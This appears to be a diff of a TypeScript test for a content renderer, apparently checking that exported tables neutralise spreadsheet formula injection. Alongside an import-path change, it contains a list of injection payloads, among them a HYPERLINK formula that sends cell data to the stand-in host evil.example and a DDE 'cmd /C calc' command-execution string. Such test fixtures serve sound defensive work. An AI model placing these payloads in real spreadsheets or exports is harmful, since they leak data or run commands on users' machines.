@@ -8,7 +8,7 @@ import { createContentRenderer } from '../../src/content/render-content.js';
 import type { ChartRenderer } from '../../src/capture/port.js';
 import { normalizeContent } from '../../src/domain/content.js';
 import { silentLogger } from '../../src/logger.js';
-import { makeAlert } from '../unit/slack/support.js';
+import { makeAlert } from '../support/fixtures.js';
 
 const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"open")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
 const result = { columns: ['=alias()', 'plain', 'n'], rows: FORMULAS.map((f, i) => [f, 'ok', -i] as (string | number)[]), truncated: false };
